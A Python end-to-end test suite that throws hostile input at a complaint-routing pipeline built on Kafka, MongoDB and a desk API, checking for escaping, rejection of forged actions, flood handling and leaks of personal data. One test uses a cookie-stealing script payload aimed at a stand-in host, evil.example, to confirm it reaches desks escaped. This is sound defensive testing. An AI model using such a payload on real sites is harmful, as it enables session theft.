"""Hostile input against the real broker and server: every message of the corpus is dead-lettered with a
clear reason or handled as a legitimate complaint; none crashes a consumer, none reaches a desk unescaped,
none changes another case; a flood from one number merges into its open cases and does not hold up anyone
else."""

from __future__ import annotations

import asyncio
import time
from collections import Counter
from dataclasses import dataclass
from typing import Any

import httpx
import pytest
from aiokafka import AIOKafkaProducer

from shared import topics
from shared.adapters.mongo.personal import is_sealed
from shared.config import DEV_COMPLAINANT_KEY
from shared.domain.lifecycle import Action
from shared.domain.masks import masked
from shared.domain.repeats import complainant_key, similarity, text_signature
from shared.domain.triage import Unit
from shared.events import Channel, case_id_for
from tests.conftest import eventually, token
from tests.hostile import corpus
from tests.hostile.corpus import CORPUS, DeadLettered, HostileInput, Routed
from tests.hostile.helpers import (
    DEAD_LETTER_FIELDS,
    Db,
    act,
    decided,
    forged_action,
    frozen,
    routed_case,
    send,
    setting_up,
)
from tools.processes import Fleet

pytestmark = [pytest.mark.e2e]
@dataclass(frozen=True)
class Baseline:
    """Two cases routed before any hostile input: they must come out of it as they went in."""

    sentinel: dict[str, Any]
    mediation_id: str
    mediation: dict[str, Any]


@pytest.fixture(scope="module")
async def baseline(fleet: Fleet, producer: AIOKafkaProducer, db: Db) -> Baseline:
    await send(producer, corpus.SENTINEL_EVENT)
    mediation = corpus.event(corpus.ORDINARY["mediation"], channel="walk_in")
    await send(producer, mediation)
    sentinel = await routed_case(db, corpus.SENTINEL_CASE, 60)
    routed = await routed_case(db, case_id_for("walk_in", mediation["event_id"]), 60)
    return Baseline(frozen(sentinel), routed["_id"], frozen(routed))


@pytest.fixture(scope="module")
async def published(fleet: Fleet, producer: AIOKafkaProducer, db: Db, baseline: Baseline) -> None:
    """The whole corpus, then one ordinary message behind it on each topic's partition: once those are
    through, every corpus message has been dealt with (a partition is consumed in order)."""
    for case in CORPUS:
        await send(producer, case.raw, topic=case.topic, headers=case.headers)
    barrier = corpus.event(corpus.ORDINARY["barrier"])
    await send(producer, barrier)
    probe = corpus.desk_action(f"GT-NOSUCHCASE-{corpus.RUN}")
    await send(producer, probe, topic=topics.DESK_ACTIONS)
    await routed_case(db, case_id_for("online", barrier["event_id"]), 60)
    assert (await decided(db, probe["event_id"], 60))["reason"] == "no such case"


def test_the_corpus_is_what_it_claims() -> None:
    """The corpus itself: unique names and bodies, and complaints distinct enough not to merge by accident."""
    everything = (*CORPUS, *corpus.POISON)
    assert len({c.name for c in everything}) == len(everything)
    assert len({c.raw for c in everything}) == len(everything), "a dead letter is found by the hash of its body"
    stored = {str(c.body["text"]) for c in CORPUS
              if isinstance(c.body, dict) and isinstance(c.body.get("text"), str) and isinstance(c.expect, Routed)}
    texts = sorted({*stored, *corpus.ORDINARY.values(), *corpus.FLOOD_MATTERS})
    signatures = [text_signature(t) for t in texts]
    for i, a in enumerate(signatures):
        for j in range(i + 1, len(signatures)):
            assert similarity(a, signatures[j]) < 0.8, (texts[i], texts[j])  # anyone's near-identical text merges
    matters = [text_signature(t) for t in corpus.FLOOD_MATTERS]
    for i, a in enumerate(matters):
        for j in range(i + 1, len(matters)):
            assert similarity(a, matters[j]) < 0.2  # one caller's loosely similar texts merge
    for matter, text in corpus.flood_plan()[1]:
        scores = [similarity(text_signature(text), m) for m in matters]
        assert scores[matter] >= 0.5 and max(s for k, s in enumerate(scores) if k != matter) < 0.2, text


def _params() -> list[Any]:
    return [
        pytest.param(case, id=case.name)
        for case in CORPUS
    ]


@pytest.mark.parametrize("case", _params())
async def test_hostile_input(case: HostileInput, published: None, db: Db) -> None:
    letters = await db.dead_letters.find({"body_sha256": case.sha256}).to_list()
    if isinstance(case.expect, Routed):
        assert not letters, [letter["detail"] for letter in letters]
        assert case.case_id is not None
        routed = await routed_case(db, case.case_id)
        assert routed["repeat_count"] == 0, "opened its own case, merged with nothing"
        for field, value in case.expect.stored.items():
            if field == "complainant":  # stored encrypted: its masked view shows it was kept as data, verbatim
                assert all(map(is_sealed, routed[field].values())) and routed["complainant_masked"] == masked(value)
                continue
            assert routed.get(field) == value, field
        return
    expect: DeadLettered = case.expect
    assert len(letters) == 1, f"expected one dead letter, found {len(letters)}"
    letter = letters[0]
    assert set(letter) <= DEAD_LETTER_FIELDS, "a dead letter keeps the reason and where, never the body"
    assert (letter["service"], letter["reason"]) == (expect.service, expect.reason), letter["detail"]
    assert letter["size"] == len(case.raw)
    assert letter["source"].startswith(f"{case.topic}:")
    assert letter["detail"] and expect.names in letter["detail"], letter["detail"]
    for secret in expect.secrets:
        assert secret not in letter["detail"], "personal data in a dead letter's detail"
    if case.case_id is not None and isinstance(case.body, dict):
        assert await db.cases.find_one({"_id": case.case_id}) is None
        assert await db.receipts.find_one({"_id": f"{case.body['channel']}:{case.body['event_id']}"}) is None


async def test_script_tags_reach_desks_escaped(published: None, db: Db, desk_url: str) -> None:
    case = corpus.BY_NAME["script-tags"]
    assert case.case_id is not None
    cid = case.case_id
    unit = (await routed_case(db, cid))["unit"]
    note = "<script>document.location='//evil.example/?c='+document.cookie</script> & 已电话联系"
    async with httpx.AsyncClient(base_url=desk_url, timeout=10,
                                 headers={"Authorization": f"Bearer {token(unit)}"}) as desk:
        detail = await desk.get(f"/desks/{unit}/cases/{cid}")
        assert detail.status_code == 200, detail.text
        assert detail.headers["content-type"].startswith("application/json")
        assert detail.headers["x-content-type-options"] == "nosniff"
        for markup in (b"<script>", b"<", b">", b"&"):
            assert markup not in detail.content, markup
        assert b"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e" in detail.content
        shown = detail.json()["case"]
        assert (shown["text"], shown["location"], shown["external_ref"]) == (
            corpus.SCRIPT_TEXT, corpus.SCRIPT_LOCATION, corpus.SCRIPT_REF)
        revealed = await desk.post(f"/desks/{unit}/cases/{cid}/reveal", params={"officer": "e2e"})
        assert b"<" not in revealed.content and revealed.json()["complainant"]["name"] == corpus.SCRIPT_NAME

        queue = await desk.get(f"/desks/{unit}/cases", params={"limit": "200"})
        assert queue.status_code == 200
        assert b"<" not in queue.content

        # A desk's own note with markup is stored as written and escaped when any desk reads it back.
        assert (await act(desk, db, unit, cid, "accept"))["outcome"] == "applied"
        noted = await act(desk, db, unit, cid, "progress_note", note=note)
        assert noted["outcome"] == "applied"
        again = await desk.get(f"/desks/{unit}/cases/{cid}")
        assert b"<" not in again.content and b"&" not in again.content
        assert note in [entry["detail"].get("note") for entry in again.json()["timeline"]]
        status = await desk.get(f"/desks/{unit}/actions/{noted['_id']}")
        assert status.status_code == 200 and b"<" not in status.content


async def test_a_desk_cannot_act_on_another_units_case(
    baseline: Baseline, producer: AIOKafkaProducer, db: Db, desk_url: str
) -> None:
    mid = baseline.mediation_id
    assert baseline.mediation["unit"] == "mediation"
    police = {"Authorization": f"Bearer {token('police')}"}
    async with httpx.AsyncClient(base_url=desk_url, timeout=10, headers=police) as desk:
        for path in (f"/desks/police/cases/{mid}/actions", f"/desks/mediation/cases/{mid}/actions"):
            reply = await desk.post(path, json={"action": "accept", "actor": "intruder"})
            assert reply.status_code == 404 and reply.json()["error"] == "not_found", path
        assert (await desk.get(f"/desks/police/cases/{mid}")).status_code == 404
        claimed = await desk.post(f"/desks/police/cases/{mid}/actions",
                                  json={"action": "accept", "actor": "intruder", "unit": "mediation"})
        assert claimed.status_code == 422

    # Straight onto the desk-actions topic, past the API: the follow-up checks the unit itself.
    forged = [
        forged_action(mid, Unit.POLICE, Action.ACCEPT, Channel.WALK_IN),
        forged_action(mid, Unit.POLICE, Action.HAND_BACK, Channel.WALK_IN, reason="不归调解管"),
        forged_action(mid, Unit.POLICE, Action.ESCALATE, Channel.WALK_IN),
    ]
    for action in forged:
        await send(producer, action.model_dump_json().encode(), topic=topics.DESK_ACTIONS, key=mid.encode())
    for action in forged:
        record = await decided(db, action.event_id)
        assert (record["outcome"], record["unit"], record["case_id"]) == ("rejected", "police", mid)
        assert "mediation" in record["reason"], record["reason"]
    assert frozen(await db.cases.find_one({"_id": mid})) == baseline.mediation
    assert list((await db.cases.find_one({"_id": mid}) or {})["routings"]) == ["0"], "not re-routed"


async def test_a_replayed_event_id_cannot_rewrite_its_case(baseline: Baseline, producer: AIOKafkaProducer, db: Db
                                                           ) -> None:
    """The sentinel's own channel and event id with other words and another person: a redelivery, no more."""
    forged = {**corpus.SENTINEL_EVENT, "text": corpus.ORDINARY["replay_forged"], "complainant": corpus.IMPOSTOR,
              "location": "别处"}
    key = f"replay-{corpus.RUN}".encode()
    await send(producer, forged, key=key)
    marker = corpus.event(corpus.ORDINARY["replay_marker"])
    await send(producer, marker, key=key)
    await routed_case(db, case_id_for("online", marker["event_id"]))
    assert frozen(await db.cases.find_one({"_id": corpus.SENTINEL_CASE})) == baseline.sentinel
    assert await db.cases.count_documents({"text": corpus.ORDINARY["replay_forged"]}) == 0


async def test_a_flood_from_one_number(fleet: Fleet, producer: AIOKafkaProducer, db: Db) -> None:
    openers, burst = corpus.flood_plan()
    key = f"flood-{corpus.RUN}".encode()

    def report(text: str) -> dict[str, Any]:
        return corpus.event(text, channel="12345", complainant={"phone": corpus.FLOOD_PHONE})

    first = [report(text) for _, text in openers]
    for body in first:
        await send(producer, body, key=key)
    cases = [case_id_for("12345", body["event_id"]) for body in first]
    for cid in cases:
        await routed_case(db, cid, 60)

    reports = [(matter, report(text)) for matter, text in burst]
    started = time.monotonic()
    pending = [await producer.send(topics.CHANNEL_EVENTS, corpus.encode(body), key=key) for _, body in reports]
    await asyncio.gather(*pending)
    receipts = [f"12345:{body['event_id']}" for _, body in reports]

    async def all_taken_in() -> bool:
        return await db.receipts.count_documents({"_id": {"$in": receipts}}) == len(receipts)

    await eventually(all_taken_in, 60, "intake to take in the whole flood")
    took = time.monotonic() - started
    joined = {doc["_id"]: doc["case_id"] async for doc in db.receipts.find({"_id": {"$in": receipts}})}
    for (matter, _), receipt in zip(reports, receipts, strict=True):
        assert joined[receipt] == cases[matter], f"a report of matter {matter} joined {joined[receipt]}"

    expected = Counter(matter for matter, _ in burst)
    assert expected[0] == 39 and len(burst) + len(openers) == 60
    for matter, cid in enumerate(cases):
        # A report's receipt is written before its repeat is counted on the case: wait for the count too.
        async def counted(cid: str = cid, matter: int = matter) -> dict[str, Any] | None:
            case = await db.cases.find_one({"_id": cid})
            return case if case and case.get("repeat_count", 0) >= expected[matter] else None

        case = await eventually(counted, 30, f"the repeats of matter {matter} counted")
        assert case["repeat_count"] == expected[matter], matter
        assert "repeated" in case["risk_flags"], matter
        assert [e["kind"] for e in case["timeline"]].count("merged") == expected[matter]
        assert case["status"] == "routed"
    flooder = complainant_key(corpus.FLOOD_PHONE, DEV_COMPLAINANT_KEY.encode())  # the fleet's (DEV_MODE) key
    assert await db.cases.count_documents({"complainant_key": flooder}) == len(openers)
    shas = [corpus.sha256(corpus.encode(body)) for body in (*first, *(body for _, body in reports))]
    assert await db.dead_letters.count_documents({"body_sha256": {"$in": shas}}) == 0
    for service in fleet.services.values():
        assert service.running, f"{service.name} exited:\n{service.log_tail()}"

    # Someone else, right after: not held up behind the flood.
    other = corpus.event(corpus.ORDINARY["after_flood"], channel="12345", complainant={"phone": "13700001111"})
    sent = time.monotonic()
    await send(producer, other, key=None)
    await routed_case(db, case_id_for("12345", other["event_id"]), 15)
    latency = time.monotonic() - sent
    assert latency < 10, f"routed {latency:.1f}s after the flood (intake took in 55 reports in {took:.1f}s)"


async def test_desk_api_refuses_deeply_nested_json_as_invalid(baseline: Baseline, desk_url: str) -> None:
    async with httpx.AsyncClient(base_url=desk_url, timeout=10) as desk:
        reply = await desk.post(f"/desks/mediation/cases/{baseline.mediation_id}/actions", content=b"[" * 10_000,
                                headers={"Authorization": f"Bearer {token('mediation')}",
                                         "Content-Type": "application/json"})
        healthy = await desk.get("/health")
    with setting_up("the desk API answering and still healthy"):
        assert reply.status_code in (422, 500) and healthy.status_code == 200, reply.text
    assert reply.status_code == 422, reply.text


async def test_a_repeat_merged_before_classification_keeps_its_flag(fleet: Fleet, producer: AIOKafkaProducer, db: Db
                                                                     ) -> None:
    key = f"race-{corpus.RUN}".encode()
    first = corpus.event(corpus.ORDINARY["race"], channel="12345", complainant={"phone": corpus.RACE_PHONE})
    again = corpus.event(corpus.ORDINARY["race"], channel="12345", complainant={"phone": corpus.RACE_PHONE})
    cid = case_id_for("12345", first["event_id"])
    classification = fleet["classification"]
    classification.stop()  # classification lagging behind intake, made certain
    try:
        with setting_up("a repeat merged while its case waits for classification"):
            await send(producer, first, key=key)
            await send(producer, again, key=key)

            async def merged() -> dict[str, Any] | None:
                return await db.cases.find_one({"_id": cid, "repeat_count": 1})

            case = await eventually(merged, 30, "the repeat to join the case")
            assert case["status"] == "received" and "repeated" in case["risk_flags"], frozen(case)
    finally:
        classification.start()
        fleet.wait_healthy(names=["classification"])
    with setting_up("the case routed once classification is back"):
        routed = await routed_case(db, cid, 60)
        assert routed["repeat_count"] == 1
    assert "repeated" in routed["risk_flags"], f"risk_flags {routed['risk_flags']} after a merged repeat"


async def test_a_pipeline_step_forged_as_a_desk_action_is_rejected(
    fleet: Fleet, producer: AIOKafkaProducer, db: Db, desk_url: str
) -> None:
    body = corpus.event(corpus.ORDINARY["handback"], channel="12345")
    cid = case_id_for("12345", body["event_id"])
    with setting_up("a routed case"):
        await send(producer, body, key=None)
        unit = (await routed_case(db, cid, 60))["unit"]
    routing = fleet["routing"]
    routing.stop()  # hold the handed-back case in `returned` until the forged action is decided
    try:
        with setting_up("a handed-back case, and a forged 'route' for it decided"):
            async with httpx.AsyncClient(base_url=desk_url, timeout=10) as desk:
                handed = await act(desk, db, unit, cid, "hand_back", reason="不属于本单位")
            returned = await db.cases.find_one({"_id": cid})
            assert handed["outcome"] == "applied" and returned is not None, handed
            assert returned["status"] == "returned", frozen(returned)
            forged = forged_action(cid, Unit(unit), Action.ROUTE, Channel.HOTLINE_12345)
            await send(producer, forged.model_dump_json().encode(), topic=topics.DESK_ACTIONS, key=cid.encode())
            record = await decided(db, forged.event_id)
    finally:
        routing.start()
        fleet.wait_healthy(names=["routing"])
    assert record["outcome"] == "rejected", f"a forged '{record['action']}' was {record['outcome']}"


async def test_no_dead_letter_or_log_carries_personal_data(fleet: Fleet, db: Db, published: None) -> None:
    letters = await db.dead_letters.find({}).to_list()
    assert len(letters) >= sum(isinstance(c.expect, DeadLettered) for c in CORPUS)
    for letter in letters:
        assert set(letter) <= DEAD_LETTER_FIELDS
        for secret in corpus.PERSONAL:
            assert secret not in letter["detail"], letter["reason"]
    secrets = (*corpus.PERSONAL, corpus.FLOOD_PHONE, corpus.RACE_PHONE, *corpus.SENTINEL_COMPLAINANT.values(),
               *corpus.IMPOSTOR.values())
    for service in fleet.services.values():
        log = service.log_path.read_text(errors="replace")
        for secret in secrets:
            assert secret not in log, f"personal data in the {service.name} log"


async def test_every_service_survived_and_still_routes(
    fleet: Fleet, producer: AIOKafkaProducer, db: Db, baseline: Baseline, published: None
) -> None:
    for name, service in fleet.services.items():
        assert service.running, f"{name} exited:\n{service.log_tail()}"
        assert service.healthy(), f"{name} is not healthy"
    ordinary = corpus.event(corpus.ORDINARY["final"], channel="12345")
    await send(producer, ordinary, key=None)
    await routed_case(db, case_id_for("12345", ordinary["event_id"]))
    assert frozen(await db.cases.find_one({"_id": corpus.SENTINEL_CASE})) == baseline.sentinel
    assert frozen(await db.cases.find_one({"_id": baseline.mediation_id})) == baseline.mediation
